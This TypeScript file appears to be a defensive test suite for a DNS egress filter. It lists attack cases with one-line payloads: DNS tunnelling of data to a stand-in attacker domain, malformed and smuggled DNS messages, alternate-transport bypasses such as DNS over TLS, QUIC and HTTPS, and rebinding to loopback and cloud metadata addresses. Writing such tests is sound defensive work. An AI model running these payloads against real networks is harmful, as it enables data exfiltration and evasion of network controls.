// DNS: names that are denied, other servers and transports, messages that nobody writes, answers that lie, and tunnels.

import { type AttackCase, cases } from './case.ts'

/** Resolves a name that leads to an address which no name may open, and dials that. */
const rebind = (kind: string, address: string) =>
  `(lambda name: [to(name), dns(name), tcp('${address}', say=get(name))][-1])(f'r{local.number}.${kind}.rebind.example')`

export const NAMES: AttackCase[] = [
  ...cases({ as: 'root', recorded: 'name' }, [
    ['D-denied', 'a denied name', "dns(token() + '.evil.test')"],
    ['D-denied-tcp', 'a denied name by TCP', "dns(token() + '.evil.test', by='tcp')"],
    ['D-denied-aaaa', 'its IPv6 addresses', "dns(token() + '.evil.test', 28)"],
    ['D-denied-txt', 'its texts', "dns(token() + '.evil.test', 16)"],
    ['D-denied-mx', 'its mail servers', "dns(token() + '.evil.test', 15)"],
    ['D-denied-https', 'its HTTPS record', "dns(token() + '.evil.test', 65)"],
    ['D-denied-null', 'a record that carries anything', "dns(token() + '.evil.test', 10)"],
    ['D-denied-any', 'all records', "dns(token() + '.evil.test', 255)"],
    ['D-below-exact', 'a name below one that is allowed by itself', "dns(token() + '.good.example')"],
    ['D-upper', 'a denied name in capitals', "dns(token().upper() + '.EVIL.TEST')"],
    ['D-suffix', 'a name that ends like an allowed one', "dns(token() + 'good.example')"],
    ['D-prefix', 'a name that begins like an allowed one', "dns('good.example.' + token() + '.test')"],
    [
      'D-dot-in-label',
      'a dot within a label',
      "dns('', message=question('x')[:12] + bytes([len(data())+13]) + data() + b'.good.example' + bytes([4]) + b'test\\0\\0\\1\\0\\1')",
    ],
    [
      'D-null-in-label',
      'a zero within a label',
      "dns('', message=question('x')[:12] + bytes([len(data())+13]) + data() + b'\\0good.example' + bytes([4]) + b'test\\0\\0\\1\\0\\1')",
    ],
    ['D-space', 'blanks within a label', "dns(token() + ' .evil.test')"],
    ['D-other-server', 'a denied name, of a public server', "dns(token() + '.evil.test', server='8.8.8.8')"],
    ['D-other-server-tcp', 'the same by TCP', "dns(token() + '.evil.test', server='8.8.8.8', by='tcp')"],
    [
      'D-evil-server',
      'a denied name, of a server of the attacker',
      "dns(token() + '.evil.test', server=evil())",
    ],
    [
      'D-evil-server-allowed',
      'a name below an allowed one, of a server of the attacker',
      "dns(token() + '.good.example', server=evil())",
    ],
    ['D-upstream-direct', "the machine's own name server", "dns(token() + '.evil.test', server=DNS)"],
    ['D-reverse', 'the name of an address', "dns(token() + '.2.0.192.in-addr.arpa', 12)"],
    [
      'D-long',
      'the longest name that there is',
      "dns('.'.join(['a' * 60] * 3) + '.' + token() + '.evil.test')",
    ],
    ['D-single-label', 'a name of one label', 'dns(token())'],
    ['D-search-suffix', 'a name that only a search list completes', "dns(token() + '.local')"],
    [
      'D-canary',
      'the name by which browsers ask for DNS over HTTPS',
      "dns('use-application-dns.net')",
      { recorded: 'quiet' },
    ],
    [
      'D-500-names',
      'five hundred denied names at once',
      "flood([f'n{i}.' + token() + '.evil.test' for i in range(500)])",
      { isAlone: true },
    ],
    [
      'N8-labels',
      'data in the labels of an allowed zone',
      "tunnel([f'{os.urandom(25).hex()}.a{i}.tun.example' for i in range(300)], 1)",
      { isAlone: true },
    ],
    [
      'N8-texts',
      'data in the texts of an allowed zone',
      "tunnel([f'w{i}.texts.tun.example' for i in range(300)], 16)",
      { isAlone: true },
    ],
    ['N5-doh-name', 'the name of a DNS server over HTTPS', "dns(token() + '.dns.google')"],
  ]),
  ...cases({ as: 'root', recorded: 'quiet' }, [
    [
      'D-edns-large',
      'an answer of 64 KiB asked for',
      "dns('', message=question(token() + '.evil.test', additionals=1, extra=b'\\0' + struct.pack('!HHIH', 41, 65535, 0, 0)))",
      { recorded: 'name' },
    ],
    [
      'D-edns-data',
      'data in an option of EDNS',
      "dns('', message=question('good.example', additionals=1, extra=b'\\0' + struct.pack('!HHIH', 41, 1232, 0, 4 + len(data())) + struct.pack('!HH', 65001, len(data())) + data()))",
    ],
    [
      'D-edns-client',
      "a client's network in EDNS",
      "dns('', message=question('good.example', additionals=1, extra=b'\\0' + struct.pack('!HHIH', 41, 1232, 0, 8 + len(data())) + struct.pack('!HHHBB', 8, 4 + len(data()), 1, 32, 0) + data()))",
    ],
    [
      'D-qdcount-2',
      'two questions at once',
      "dns('', message=struct.pack('!6H', 1, 256, 2, 0, 0, 0) + label('good.example') + struct.pack('!2H', 1, 1) + label(token() + '.evil.test') + struct.pack('!2H', 1, 1))",
    ],
    ['D-qdcount-0', 'no question', "dns('', message=struct.pack('!6H', 1, 256, 0, 0, 0, 0) + data())"],
    ['D-trailing', 'data behind the question', "dns('', message=question('good.example') + data())"],
    [
      'D-answer',
      'a message that says that it is an answer',
      "dns('', message=question(token() + '.evil.test', flags=0x8180))",
    ],
    ['D-update', 'a change of a zone', "dns('', message=question(token() + '.evil.test', flags=0x2800))"],
    ['D-notify', 'the news of a zone', "dns('', message=question(token() + '.evil.test', flags=0x2000))"],
    [
      'D-chaos',
      'a question of another class',
      "dns('', message=question(token() + '.evil.test', klass=3)[:-4] + struct.pack('!2H', 1, 3))",
    ],
    [
      'D-loop',
      'a name that points at itself',
      "dns('', message=struct.pack('!6H', 1, 256, 1, 0, 0, 0) + b'\\xc0\\x0c\\0\\1\\0\\1' + data())",
    ],
    [
      'D-pointer-out',
      'a name that points outside of the message',
      "dns('', message=struct.pack('!6H', 1, 256, 1, 0, 0, 0) + b'\\xff\\xff\\0\\1\\0\\1' + data())",
    ],
    [
      'D-axfr',
      'a whole zone',
      "dns('', by='tcp', message=question(token() + '.tun.example', 252))",
      { recorded: 'name' },
    ],
    [
      'D-tcp-split',
      'a denied name by TCP, byte by byte',
      "(lambda m: tcp(GATEWAY, 53, say=[bytes([b]) for b in struct.pack('!H', len(m)) + m]))(question(token() + '.evil.test'))",
      { recorded: 'name' },
    ],
    [
      'D-tcp-pipelined',
      'a denied name behind an allowed one, on one connection',
      "(lambda a, b: tcp(GATEWAY, 53, say=struct.pack('!H', len(a)) + a + struct.pack('!H', len(b)) + b))(question('good.example'), question(token() + '.evil.test'))",
      { recorded: 'name' },
    ],
    ['D-tcp-http', 'HTTP to the name server', 'tcp(DNS, 53, say=get(evil()))'],
    [
      'D-tcp-tls',
      'TLS to port 53 of an allowed name',
      "[learn('good.example'), tls(GOOD, token() + '.evil.test', 53)][-1]",
    ],
    ['D-tcp-raw', 'anything to port 53 of the attacker', 'tcp(evil(), 53)'],
    ['D-udp-raw', 'anything to port 53 of the attacker, by UDP', 'udp(evil(), 53)'],
    ['D-wireguard-53', 'a tunnel on port 53', "udp(evil(), 53, b'\\1\\0\\0\\0' + data() + b'\\0' * 140)"],
  ]),
  ...cases({ as: 'root', recorded: 'connection' }, [
    [
      'N7-port-5353',
      'a name server on port 5353',
      "[to(evil(), 5353), dns(token() + '.evil.test', server=evil(), number=5353)][-1]",
    ],
    [
      'N7-port-5300',
      'a name server on another port',
      "[to(evil(), 5300), dns(token() + '.evil.test', server=evil(), number=5300)][-1]",
    ],
    ['N7-dot', 'DNS over TLS', "tls(evil(), 'dns.example', 853)"],
    [
      'N7-dot-allowed',
      'DNS over TLS at an allowed server',
      "[learn('good.example'), tls(GOOD, 'good.example', 853, data())][-1]",
    ],
    ['N7-doq', 'DNS over QUIC', 'udp(evil(), 853)'],
    ['N7-doq-784', 'DNS over QUIC on its old port', 'udp(evil(), 784)'],
    ['N7-dnscrypt', 'DNSCrypt', 'udp(evil(), 5443)'],
    ['N5-doh-ip', 'DNS over HTTPS by address', "tls('8.8.8.8', token() + '.dns.google')"],
    ['N5-doh3', 'DNS over HTTP/3', "udp('8.8.8.8', 443)"],
    ['N2-rebind-private', 'an allowed name with a private address', rebind('private', '10.1.2.3')],
    [
      'N2-rebind-loopback',
      'one with a loopback address',
      rebind('loopback', '127.0.0.1'),
      { recorded: 'name' },
    ],
    ['N2-rebind-metadata', 'one with the address of metadata', rebind('metadata', '169.254.169.254')],
    ['N2-rebind-shared', 'one with an address of carriers', rebind('shared', '100.100.100.200')],
    ['N2-rebind-azure', "one with a cloud's own address", rebind('azure', '168.63.129.16')],
    [
      'N2-rebind-host',
      'one with the outer address of the host',
      "[dns('host.rebind.example'), tcp(HOST, HOST_PORT, say=get('host.rebind.example'))][-1]",
    ],
    [
      'N2-rebind-zero',
      'one with the address of nobody',
      "[to('zero.rebind.example'), dns('zero.rebind.example')][-1]",
      { recorded: 'name' },
    ],
    [
      'N2-rebind-mixed',
      'one with a public and a private address, and the private one dialled',
      "[dns('mixed.rebind.example'), tcp('10.1.2.4', say=get('mixed.rebind.example'))][-1]",
    ],
    [
      'N4-cname',
      'an allowed name that is an alias of a denied one',
      "[dns('alias.example'), tcp('198.51.100.250', say=get('alias.example', '/' + token()))][-1]",
    ],
    [
      'N4-cname-host',
      'the denied name on the address of the alias',
      "[dns('alias.example'), tcp('198.51.100.250', say=get('denied.test', '/' + token()))][-1]",
    ],
    [
      'R5-ttl-0',
      'an address whose time is zero, and another name there',
      "[dns('now.example'), tcp('203.0.113.12', say=get('evil.test'))][-1]",
    ],
    [
      'R5-ttl-huge',
      'an address whose time is a day, and another name there',
      "[dns('day.example'), tcp('203.0.113.13', say=get('evil.test'))][-1]",
    ],
    [
      'V-aaaa',
      'an IPv6 address of an allowed name',
      "[dns('good.example', 28), tcp('2001:db8:a::10', say=get('good.example'))][-1]",
      { recorded: 'unsent' },
    ],
    [
      'N13-hint',
      'an address that only an HTTPS record tells',
      "[dns('hint.example', 65), tcp('203.0.113.14', say=get('hint.example'))][-1]",
    ],
  ]),
]
